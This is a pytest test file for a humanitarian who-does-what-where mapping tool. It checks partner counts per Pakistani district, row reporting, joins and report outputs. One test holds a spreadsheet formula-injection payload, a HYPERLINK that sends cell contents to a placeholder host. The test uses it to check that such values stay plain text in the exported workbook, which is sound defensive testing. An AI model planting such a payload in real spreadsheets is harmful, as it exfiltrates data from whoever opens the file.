"""Who does what where (``pakmap 3w``) on the real district boundaries of ../shared/data, from a partner
workbook as partners send it (``activity_data``): counts, the accountable join, outputs, protection."""

from __future__ import annotations

import csv
import subprocess

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from activity_data import (
    PCODE_EXPECTED,
    expected_counts,
    expected_reached,
    write_activity_workbook,
    write_pcode_activity_csv,
)
from test_cli import assert_one_line_error, run_cli

from pakmap.classify import classify
from pakmap.errors import PakmapError
from pakmap.products.activities import PARTNERS, ThreeWOptions, who_what_where
from pakmap.products.sector_panels import partner_breaks
from pakmap.products.sectors import SectorTable
from pakmap.products.threew_report import ThreeWFiles, line_of_control, write_threew_outputs
from pakmap.sources import open_layer

pytestmark = pytest.mark.realdata


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    return write_activity_workbook(tmp_path_factory.mktemp("threew") / "activities.xlsx")


@pytest.fixture(scope="module")
def districts(shared_data):
    return gpd.read_file(shared_data / "pakistan_admin.gpkg", layer="districts")


@pytest.fixture(scope="module")
def result(workbook, districts):
    return who_what_where(open_layer(workbook).attributes, districts)


def test_sector_spellings_are_one_sector():
    sectors = SectorTable()
    for spelling in ("WASH", "Wash", "water, sanitation & hygiene", "Water Sanitation and Hygiene", " wash "):
        assert sectors.of(spelling).key == "wash"
    assert sectors.of("Shelter/NFI").key == sectors.of("Emergency Shelter").key == "shelter"
    unknown = sectors.of("Mine action")
    assert not unknown.listed and unknown.label == "Mine action"
    assert sectors.of(None) is None and sectors.of("  ") is None


def test_a_cell_may_name_several_sectors():
    sectors = SectorTable()
    assert [s.key for s in sectors.all_of("WASH, Health")] == ["wash", "health"]
    assert [s.key for s in sectors.all_of("Protection; Education / Health")] == ["protection", "education", "health"]
    # One sector whose name holds a separator stays one; parts that are not all sectors stay as written.
    assert [s.key for s in sectors.all_of("Shelter/NFI")] == ["shelter"]
    assert [s.key for s in sectors.all_of("Water, Sanitation & Hygiene")] == ["wash"]
    (odd,) = sectors.all_of("WASH, mine action")
    assert not odd.listed and odd.label == "WASH, mine action"


def test_several_sectors_and_a_group_of_districts(districts):
    table = pd.DataFrame(
        {
            "Partner": ["Indus Relief Network", "Mehran Women's Forum", "Mehran Women's Forum"],
            "Sector": ["WASH, Health", "Protection", "Protection"],
            "District": ["Tank", "Karachi", "Karachi East"],
            "People reached": [400, 7000, 90],
        }
    )
    out = who_what_where(table, districts).units.set_index("name")
    assert (out.loc["Tank", "partners_wash"], out.loc["Tank", "partners_health"], out.loc["Tank", PARTNERS]) == (
        1,
        1,
        1,
    )
    assert out.loc["Tank", "beneficiaries"] == 400  # one activity: its people once, not once per sector
    # "Karachi" is the seven districts of the division: the partner works in each of them…
    karachi = ["Karachi Central", "Karachi East", "Karachi South", "Karachi West", "Korangi", "Malir", "Keamari"]
    assert (out.loc[karachi, "partners_protection"] == 1).all()
    # …but its 7,000 people cannot be split among them: only Karachi East's own 90 are a district's.
    assert out.loc["Karachi East", "beneficiaries"] == 90 and out.loc["Malir", "beneficiaries"] != 7000


def test_partners_per_district_match_the_truth(result):
    per_district, per_sector = expected_counts()
    units = result.units.set_index("name")
    got = {name: int(n) for name, n in units[PARTNERS].items() if n}
    assert got == per_district  # D.I. Khan, DI Khan District, Kurram Agency, Thar Parkar… all found
    for (district, sector), n in per_sector.items():
        assert units.loc[district, f"partners_{sector}"] == n, (district, sector)
    # "unhcr " and "UNHCR" are one partner: 11 organisations in the table, 12 spellings.
    assert result.partners_total == 11
    assert result.sector_partners["wash"] == 3 and result.sector_partners["protection"] == 4
    # The repeated row is counted once in the people reached.
    reached = expected_reached()
    assert units.loc["Peshawar", "beneficiaries"] == reached["Peshawar"]
    assert units.loc["Khyber", "beneficiaries"] == 3


def test_rows_not_counted_are_reported(result):
    why = dict(result.left_out)
    assert why["sheet row 11"] == "repeats sheet row 10"
    assert why["sheet row 50"] == "no partner named"
    assert why["sheet row 51"] == "a totals row"
    unmatched = result.report.unmatched_rows
    assert list(unmatched["table_key"]) == ["Zhob Cantonment"] and list(unmatched["table_row"]) == [49]
    assert "Zhob" in unmatched["suggestions"].iloc[0]
    assert "Zhob Cantonment" in result.summary()
    # The partner only in that row is on no map and in no total.
    assert "Karakoram Cash Programme" not in " ".join(result.units["partner_names"])


def test_join_by_pcode_on_cod_boundaries(shared_data, tmp_path):
    table = open_layer(write_pcode_activity_csv(tmp_path / "activities.csv")).attributes
    sindh = gpd.read_file(shared_data / "sindh_cod_adm2_pcodes.geojson")
    out = who_what_where(table, sindh)
    assert out.columns["pcode"] == "Admin2 Pcode" and out.columns["beneficiaries"] == "Beneficiaries"
    got = {code: int(n) for code, n in zip(out.units.ADM2_PCODE, out.units[PARTNERS]) if n}
    assert got == PCODE_EXPECTED
    assert list(out.report.unmatched_rows["table_key"]) == ["PK799"]  # a wrong code is not guessed from the name
    assert "1 row(s) without a P-code by name" in out.notes[0]


def test_partner_classes_are_whole_steps():
    assert partner_breaks(1) == [1.0]
    assert partner_breaks(5) == [1.0, 2.0, 3.0, 5.0]
    assert partner_breaks(40) == [1.0, 2.0, 3.0, 5.0, 40.0]
    # A class of one whole number reads as that number, not "1 – 1".
    classes = classify(np.array([1.0, 2.0, 3.0, 5.0]), "manual", 4, partner_breaks(5))
    assert classes.labels() == ["1", "2", "3", "4 – 5"]


@pytest.fixture(scope="module")
def outputs(workbook, shared_data):
    folder = workbook.parent / "out"
    folder.mkdir()
    names = ["3w.pdf", "3w.csv", "3w.xlsx", "3w.html", "3w.png"]
    args = [str(workbook), "--by", str(shared_data / "pakistan_admin.gpkg"), "--by-layer", "districts"]
    result = run_cli("3w", *args, *[a for n in names for a in ("-o", str(folder / n))])
    assert result.returncode == 0, result.stderr
    assert "11 partner(s) in 10 sector(s) across 22 unit(s)" in result.stderr
    return folder


def _csv(path) -> dict[str, dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["District"]: row for row in csv.DictReader(handle)}


def test_matrix_csv_and_xlsx(outputs):
    rows = _csv(outputs / "3w.csv")
    assert list(rows)[:4] == ["Peshawar", "Dadu", "Dera Ismail Khan", "Quetta"]  # most partners first
    assert rows["Peshawar"]["All sectors"] == "5" and rows["Peshawar"]["Protection"] == "2"
    assert rows["Dadu"]["Shelter & NFI"] == "2" and rows["Dadu"]["WASH"] == "1"
    # People reached are people: Khyber's 3 is "<5"; partner counts of 1 are shown as they are.
    assert rows["Khyber"]["People reached"] == "<5" and rows["Khyber"]["Nutrition"] == "1"
    assert "3" not in rows["Khyber"]["People reached"]
    sheet = openpyxl.load_workbook(outputs / "3w.xlsx")
    matrix = list(sheet["Partners by sector"].values)
    assert matrix[1][:3] == ("District", "All sectors", "Protection")
    assert matrix[2][:3] == ("Peshawar", 5, 2)
    why = {r[0]: r[1] for r in sheet["Rows not on the map"].values}
    assert "Zhob Cantonment" in why["sheet row 49"]
    for name in ("3w.pdf", "3w.csv", "3w.xlsx", "3w.html", "3w.png"):
        assert (outputs / f"{name}.record.json").exists()


def test_pdf_pages(outputs):
    text = subprocess.run(["pdftotext", "-layout", str(outputs / "3w.pdf"), "-"], capture_output=True, text=True).stdout
    pages = text.split("\f")
    assert "Who does what where: partners per district" in pages[0] and "No partner reported" in pages[0]
    assert "Partners per district, by sector" in pages[1]
    for heading in ("WASH · 3 partners", "Protection · 4 partners", "Camp coordination · 1 partner"):
        assert heading in pages[1]
    assert "Partners per district and sector" in pages[2] and "Peshawar" in pages[2]
    khyber = next(line for line in pages[2].splitlines() if line.strip().startswith("Khyber"))
    assert khyber.split()[-1] == "<5"
    assert "Zhob Cantonment" in text and "repeats sheet row 10" in text
    assert "Lato" in subprocess.run(["pdffonts", str(outputs / "3w.pdf")], capture_output=True, text=True).stdout


def test_web_map_has_a_sector_filter(outputs):
    html = (outputs / "3w.html").read_text(encoding="utf-8")
    assert "id = 'pm-sector'" in html or "select.id = 'pm-sector'" in html
    assert '"Food security"' in html and '"All sectors"' in html
    assert len(html) < 1_500_000  # eleven views of 156 districts: the geometry of the empty ones written once


def test_bad_tables_are_one_line_errors(shared_data, tmp_path):
    by = str(shared_data / "pak_districts.geojson")
    no_partner = tmp_path / "no_partner.csv"
    pd.DataFrame({"Cluster": ["WASH"], "District": ["Quetta"]}).to_csv(no_partner, index=False)
    totals = tmp_path / "totals.csv"
    pd.DataFrame({"Partner": ["Total"], "Sector": ["WASH"], "District": ["Quetta"]}).to_csv(totals, index=False)
    out = [tmp_path / "a.csv"]
    cases = [
        (ThreeWFiles(str(no_partner), by), "no partner column"),
        (ThreeWFiles(str(totals), by), "no activity rows"),
        (ThreeWFiles(str(totals), str(totals)), "--by needs admin boundaries"),
        (ThreeWFiles(str(totals), by, columns=ThreeWOptions(sector_field="Cluster")), "no column 'Cluster'"),
        (ThreeWFiles(str(totals), by, columns=ThreeWOptions(value_field="Sector")), "holds no numbers"),
        (ThreeWFiles(str(totals), by, columns=ThreeWOptions(statuses=["Ongoing"])), "no status column"),
    ]
    for files, message in cases:
        with pytest.raises(PakmapError) as caught:
            write_threew_outputs(out, files)
        assert message in str(caught.value) and "\n" not in str(caught.value)
    # On the command line: exit status 2 and one line, naming the file and the fix.
    assert_one_line_error(run_cli("3w", str(no_partner), "--by", by, "-o", str(out[0])), "--partner-field")
    assert_one_line_error(run_cli("3w", str(totals), "--by", by, "-o", str(tmp_path / "a.docx")), "'.docx'")
    assert_one_line_error(run_cli("3w", str(totals), "--by", by, "-o", str(totals)))
    assert not out[0].exists()


def test_formula_like_text_stays_text_in_the_workbook(shared_data, tmp_path):
    """A partner's sector or district that would start a formula is text in the .xlsx, as in every CSV."""
    table = tmp_path / "activities.csv"
    attack = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    pd.DataFrame(
        {
            "Partner": ["Indus Relief Network", "Thar Water Trust"],
            "Sector": [attack, "WASH"],
            "District": ["Tank", attack],
        }
    ).to_csv(table, index=False)
    write_threew_outputs([tmp_path / "3w.xlsx"], ThreeWFiles(str(table), str(shared_data / "pak_districts.geojson")))
    book = openpyxl.load_workbook(tmp_path / "3w.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert sum(attack in str(c.value) for c in cells) == 2  # the sector's column, the district's reason
    assert all(c.data_type != "f" for c in cells)


def test_line_of_control_from_the_boundaries_geopackage(shared_data):
    """pakistan_admin.gpkg holds the Line of Control: the map page draws it dotted, as its note says."""
    loc = line_of_control(ThreeWFiles("a.xlsx", str(shared_data / "pakistan_admin.gpkg"), by_layer="districts"))
    assert loc is not None and loc.style.symbol.line_style == "dot"
    assert line_of_control(ThreeWFiles("a.xlsx", str(shared_data / "pak_districts.geojson"))) is None
